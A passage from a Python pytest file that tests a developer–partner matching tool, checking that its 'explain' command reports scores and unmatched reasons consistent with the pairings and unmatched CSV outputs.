    reasons = {r["id"]: r["reason"] for r in read_rows(out / "unmatched.csv")}
    assert all(reasons[i] == "dropped" for i in dropped)


@pytest.mark.parametrize("row", [0, 57, -1])
def test_morocco_explain_any_paired_and_unpaired_person(morocco_run: Run, row: int) -> None:
    pair = read_rows(morocco_run.out / "pairings.csv")[row]
    shown = json.loads(
        expect(
            run(["explain", morocco_run.out, "--partner", pair["partner_id"], "--json"]), 0
        ).stdout
    )
    assert shown["partner_of"] == pair["developer_id"]
    assert shown["breakdown"]["score"] == pytest.approx(float(pair["score"]), abs=0.01)
    alone = read_rows(morocco_run.out / "unmatched.csv")[row]
    flag = "--developer" if alone["side"] == "developer" else "--partner"
    shown = json.loads(
        expect(run(["explain", morocco_run.out, flag, alone["id"], "--json"]), 0).stdout
    )
    assert (shown["reason"], shown["detail"]) == (alone["reason"], alone["detail"])
